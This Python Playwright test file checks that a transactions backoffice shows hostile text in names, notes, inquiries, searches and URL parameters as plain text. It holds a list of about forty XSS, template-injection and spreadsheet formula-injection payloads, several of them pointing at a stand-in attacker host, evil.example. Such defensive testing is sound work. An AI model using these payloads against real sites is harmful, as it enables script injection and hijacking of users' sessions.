"""What people of ill will write is shown as they wrote it: no script of theirs runs, nothing of theirs is fetched."""

from __future__ import annotations

from datetime import timedelta
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from accounts.models import User
from backoffice.demo import stories
from backoffice.gateway.intake import receive
from tests.browser.world import PARTNER, World
from transactions import actions
from transactions.models import Inquiry, Transaction

pytestmark = pytest.mark.browser

STRINGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% load x %}{# y #}",
    "${alert(1)}`${alert(1)}`",
    "javascript:alert(1)",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    "<b style=position:fixed>x</b>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<button data-opens=keys autofocus>x</button>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "=cmd|' /C calc'!A0",
]
TEXTS = "[...document.querySelectorAll('main bdi,main dd,main p,main h1')].map((one) => one.textContent.trim())"
OF_THEIRS = """[...document.querySelector('main').querySelectorAll(
  'script,iframe,object,embed,base,link,meta,img,video,[onerror],[onload],[onfocus],[hx-trigger]:not(#views),[style]'
)].map((one) => one.outerHTML)"""


@pytest.fixture(scope="module")
def told(world: World) -> list[str]:
    """Transactions whose names and narrations are the strings, four to a transaction."""
    events = []
    groups = [STRINGS[at : at + 4] for at in range(0, len(STRINGS), 4)]
    references = []
    for number, group in enumerate(groups):
        age = timedelta(days=40 + number)
        story = stories.story_of_kind("paid", partner=PARTNER, number=9_000 + number, age=age)
        data = story[0]["data"]
        texts = group + ["plain"] * (4 - len(group))
        data["beneficiary"]["fullName"], data["remitter"]["fullName"] = texts[:2]
        data["transactionDetails"]["narration"], data["remitter"]["idDetails"]["issuePlace"] = texts[2:]
        events += story
        references.append(str(story[0]["subject"]))
    receipt = receive(events, message_id="hostile", source="demo")
    assert not receipt.rejected, receipt.as_json()
    return references


def shown(page: Page, text: str) -> bool:
    """Whether some text of the page is exactly this, spaces apart."""
    return any(" ".join(text.split()) == " ".join(one.split()) for one in page.evaluate(TEXTS))


def test_names_and_narrations_are_shown_as_they_were_sent(page: Page, told: list[str]) -> None:
    for reference in told:
        transaction = Transaction.objects.prefetch_related("parties").get(txn_id=reference)
        page.goto(f"/transactions/{reference}/")
        for party in transaction.parties.all():
            assert shown(page, party.full_name), party.full_name
        assert shown(page, transaction.narration), transaction.narration
        assert page.evaluate(OF_THEIRS) == []
    sent = set(Transaction.objects.filter(txn_id__in=told).values_list("beneficiary_name", flat=True))
    assert len(sent & set(STRINGS)) >= 9, "the intake changed the names"


def test_the_list_and_the_search_show_them_too(page: Page, told: list[str]) -> None:
    names = list(Transaction.objects.filter(txn_id__in=told).values_list("beneficiary_name", flat=True))
    page.goto("/transactions/?sort=created&size=100")
    page.wait_for_load_state("networkidle")
    found = [name for name in names if shown(page, name)]
    assert len(found) == len(names)
    assert page.evaluate(OF_THEIRS) == []

    for text in STRINGS[::3]:
        page.fill("#finder-q", text)
        with page.expect_navigation():
            page.press("#finder-q", "Enter")
        assert page.locator("main#main").count() == 1
        assert page.evaluate(OF_THEIRS) == []


def test_notes_are_shown_as_they_were_typed(page: Page, world: World) -> None:
    hina, transaction = User.objects.get(username="hina"), world.plain(50)
    for text in STRINGS:
        actions.add_note(transaction, by=hina, text=text)
    page.goto(transaction.get_absolute_url())

    assert [text for text in STRINGS if not shown(page, text)] == []
    assert page.locator("#notes article").count() == len(STRINGS)
    assert page.evaluate(OF_THEIRS) == []


def test_a_note_typed_in_the_browser_comes_back_as_it_was(page: Page, world: World) -> None:
    transaction = world.plain(52)
    for text in (STRINGS[0], STRINGS[24], "line one\n<b>line two</b>"):
        page.goto(transaction.get_absolute_url())
        page.fill("#id_note-text", text)
        page.get_by_role("button", name="Add note").click()
        expect(page.locator("#notes article").last.locator(".answer")).to_have_text(text)


def test_inquiries_are_shown_as_they_were_typed(page: Page, world: World) -> None:
    hina, transaction = User.objects.get(username="hina"), world.plain(53)
    numbers = []
    for first, second, third in zip(STRINGS[::3], STRINGS[1::3], STRINGS[2::3], strict=True):
        inquiry = actions.log_inquiry(
            transaction,
            by=hina,
            channel=Inquiry.Channel.EMAIL,
            asked_by=first,
            reference_asked=second,
            question=second,
            answer=third,
            answer_version="test",
            is_answered=False,
        )
        actions.close_inquiry(inquiry, by=hina, note=first)
        numbers.append((inquiry.number, {first, second, third}))
    for number, texts in numbers:
        page.goto(f"/inquiries/{number}/")
        assert [text for text in texts if not shown(page, text)] == []
        assert page.evaluate(OF_THEIRS) == []
    page.goto("/inquiries/?state=all")
    assert page.evaluate(OF_THEIRS) == []
    assert page.locator("tbody tr").count() >= len(numbers)


def test_addresses_of_ill_will_are_echoed_as_text(page: Page) -> None:
    for text in STRINGS[::2]:
        page.goto(f"/transactions/?{urlencode({'status': text, 'x': text})}")
        assert page.evaluate(OF_THEIRS) == []
    page.goto("/search/?q=%3Cscript%3Ealert(1)%3C/script%3E")
    assert page.evaluate(OF_THEIRS) == []
